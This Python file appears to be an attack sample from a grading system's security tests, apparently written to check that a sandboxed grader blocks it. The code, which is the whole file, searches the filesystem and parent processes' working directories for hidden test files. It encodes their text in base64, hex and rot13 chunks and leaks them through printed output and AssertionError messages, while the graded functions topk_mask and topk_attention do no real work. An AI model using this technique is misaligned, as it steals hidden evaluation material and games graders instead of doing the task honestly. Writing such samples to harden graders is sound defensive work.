"""ATTACK leak_messages (kind: leaking hidden text through messages).

What it tries: carry the hidden tests out of the grader in what a student gets back. At import time it reads
every ``tests/hidden/*.py`` it can find (next to the loaded test modules, in the repository of the loaded
grader, in the working directories and command lines of its parents), cuts the text into chunks and encodes
them in turn as plain text, base64, hex and rot13, so that a filter looking for the raw text misses most of
it. Every call of a graded function then prints several chunks (to stdout and stderr: captured output) and
raises an ``AssertionError`` whose message is the next chunk (failure reasons and tracebacks). Chunks are
numbered, so they can be put back together from the report, ``feedback.md``, ``results.json`` or the
Gradescope page.

Why it must fail under the new design: the worker cannot read the hidden tests at all (Landlock); and
student text in every report is cut short and never able to carry a hidden test's source out (the reports
are built in the judge, from the worker's plain data).
"""

from __future__ import annotations

import base64
import codecs
import glob
import os
import sys

import torch
from torch import Tensor

CHUNK = 150  # bytes of hidden text per chunk: encoded, a chunk still fits in a one-line failure reason
PRINTED_PER_CALL = 8


def _ancestors():
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid <= 1:
            return
        yield pid


def _places():
    for name, module in list(sys.modules.items()):
        if name == "grader" or name.startswith(("grader.", "test_ex", "conftest")):
            yield getattr(module, "__file__", None) or ""
    yield os.getcwd()
    for pid in _ancestors():
        try:
            yield os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                yield from (a.decode(errors="replace") for a in f.read().split(b"\0") if b"/" in a)
        except OSError:
            continue


def _hidden_text() -> bytes:
    seen, parts = set(), []
    for place in _places():
        folder = os.path.abspath(place or ".")
        for _ in range(6):
            for path in sorted(glob.glob(os.path.join(folder, "tests", "hidden", "test_*.py"))
                               + glob.glob(os.path.join(folder, "hidden", "test_*.py"))):
                name = os.path.basename(path)
                if name in seen:
                    continue
                try:
                    with open(path, "rb") as f:
                        parts.append(b"#### " + name.encode() + b"\n" + f.read())
                    seen.add(name)
                except OSError:
                    pass
            folder = os.path.dirname(folder)
    return b"".join(parts)


def _encode(number: int, chunk: bytes) -> str:
    kind = number % 4
    if kind == 0:
        body = chunk.decode("utf-8", errors="replace")
    elif kind == 1:
        body = base64.b64encode(chunk).decode()
    elif kind == 2:
        body = chunk.hex()
    else:
        body = codecs.encode(chunk.decode("utf-8", errors="replace"), "rot13")
    return f"[{number}:{'tbxr'[kind]}] {body}"


try:
    _SECRET = _hidden_text()
except Exception:
    _SECRET = b""
_CHUNKS = [_encode(i, _SECRET[at:at + CHUNK]) for i, at in enumerate(range(0, len(_SECRET), CHUNK))]
_position = 0


def _next_chunk() -> str:
    global _position
    if not _CHUNKS:
        return "nothing to say"
    chunk = _CHUNKS[_position % len(_CHUNKS)]
    _position += 1
    return chunk


def _leak() -> None:
    for i in range(PRINTED_PER_CALL):
        print(_next_chunk(), file=sys.stderr if i % 2 else sys.stdout, flush=True)
    raise AssertionError(_next_chunk())


# ---------------------------------------------------------------------------------------------------------
# The exercise: every call leaks, then fails
# ---------------------------------------------------------------------------------------------------------


def topk_mask(scores: Tensor, top_k: int) -> Tensor:
    _leak()


def topk_attention(q: Tensor, k: Tensor, v: Tensor, top_k: int, *, causal: bool = True):
    _leak()


_ = torch
